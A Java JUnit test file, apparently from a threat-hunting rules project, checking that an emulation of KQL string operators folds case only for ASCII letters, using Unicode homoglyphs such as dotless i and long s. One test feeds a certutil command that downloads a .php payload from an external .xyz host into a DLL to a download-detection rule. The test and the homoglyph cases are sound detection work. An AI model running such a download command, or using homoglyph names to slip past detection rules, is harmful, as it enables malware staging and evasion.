package dev.bazahunt.kql;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.rules.CertutilDownloadRule;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

/**
 * Kusto documents case-insensitive operators for ASCII text only, and terms as runs of ASCII letters and
 * digits. These are the characters where Java's Unicode folding would say otherwise.
 */
class KqlAsciiCaseFoldingTest {

    @ParameterizedTest(name = "{0}: \"{1}\" =~ \"{2}\" is {3}")
    @CsvSource(delimiter = '|', textBlock = """
            dotless i                 | certut\u0131l.exe       | certutil.exe | false
            dotted capital I          | CERTUT\u0130L.EXE       | certutil.exe | false
            Turkish upper of i        | \u0130                  | i            | false
            Turkish lower of I        | \u0131                  | I            | false
            long s                    | \u017Fplit              | split        | false
            Kelvin sign               | \u212A                  | k            | false
            Kelvin sign upper         | \u212A                  | K            | false
            fullwidth letters         | \uFF43\uFF45\uFF52\uFF54 | cert        | false
            fullwidth against itself  | \uFF43\uFF45\uFF52\uFF54 | \uFF23\uFF25\uFF32\uFF34 | false
            Greek sigma forms         | \u03a3                  | \u03c3       | false
            Greek final sigma         | \u03c2                  | \u03c3       | false
            Greek capital alpha       | \u0391                  | \u03b1       | false
            Greek is not Latin        | \u0391                  | A            | false
            same non-ASCII character  | certut\u0131l.exe       | CERTUT\u0131L.EXE | true
            sharp s stays itself      | stra\u00dfe             | STRA\u00dfE  | true
            ASCII letters fold        | CertUtil.EXE            | certutil.exe | true
            punctuation does not fold | [                       | {            | false
            at sign is not a letter   | @                       | `            | false
            """)
    void onlyTheAsciiLettersFold(String what, String lhs, String rhs, boolean expected) {
        assertThat(KqlOperators.equalsCi(lhs, rhs)).as(what).isEqualTo(expected);
        assertThat(KqlOperators.equalsCi(rhs, lhs)).as(what + ", swapped").isEqualTo(expected);
        assertThat(KqlOperators.contains(lhs, rhs)).as(what + ", contains").isEqualTo(expected);
        assertThat(KqlOperators.startsWith(lhs, rhs)).as(what + ", startswith").isEqualTo(expected);
        assertThat(KqlOperators.endsWith(lhs, rhs)).as(what + ", endswith").isEqualTo(expected);
        assertThat(KqlOperators.inCi(lhs, "cmd.exe", rhs)).as(what + ", in~").isEqualTo(expected);
    }

    @ParameterizedTest(name = "{0}: \"{1}\" has \"{2}\" is {3}")
    @CsvSource(delimiter = '|', textBlock = """
            long s is no s              | x.exe -urlcache -\u017Fplit -f http://a/b | split     | false
            long s separates terms      | x.exe -urlcache -\u017Fplit -f http://a/b | plit      | true
            Kelvin sign is no k         | \u212Aill -9                             | kill      | false
            dotless i separates terms   | certut\u0131l.exe                        | certut    | true
            dotless i is no i           | certut\u0131l.exe                        | certutil  | false
            dotted I is no I            | CERT\u0130FY                             | certify   | false
            fullwidth is no ASCII       | \uFF53\uFF50\uFF4C\uFF49\uFF54           | split     | false
            e acute separates terms     | r\u00e9sum\u00e9                         | sum       | true
            Greek word has no fold      | \u03a3\u039f\u03a6\u0399\u0391            | \u03c3\u03bf\u03c6\u03b9\u03b1 | false
            Greek word matches itself   | \u03a3\u039f\u03a6\u0399\u0391 x         | \u03a3\u039f\u03a6\u0399\u0391 | true
            """)
    void termsAreAsciiAlphanumericRuns(String what, String lhs, String rhs, boolean expected) {
        assertThat(KqlOperators.has(lhs, rhs)).as(what).isEqualTo(expected);
    }

    @Test
    void faithfulRuleFlagsACopyNamedWithADotlessI() {
        String download = "certut\u0131l.exe -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\a.dll";
        assertThat(CertutilDownloadRule.matches("certut\u0131l.exe", download)).isTrue();
        assertThat(CertutilDownloadRule.matches("CERTUT\u0130L.EXE", download)).isTrue();
        assertThat(CertutilDownloadRule.matches("CertUtil.exe", download)).isFalse();
    }

    @Test
    void theCharacterPrimitivesAgree() {
        for (char c = 0; c < Character.MAX_VALUE; c++) {
            boolean asciiAlphanumeric = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
            assertThat(KqlOperators.isTermCharacter(c)).as("U+%04X", (int) c).isEqualTo(asciiAlphanumeric);
            char expectedFold = c >= 'A' && c <= 'Z' ? (char) (c - 'A' + 'a') : c;
            assertThat(KqlOperators.foldCase(c)).as("fold U+%04X", (int) c).isEqualTo(expectedFold);
        }
    }
}
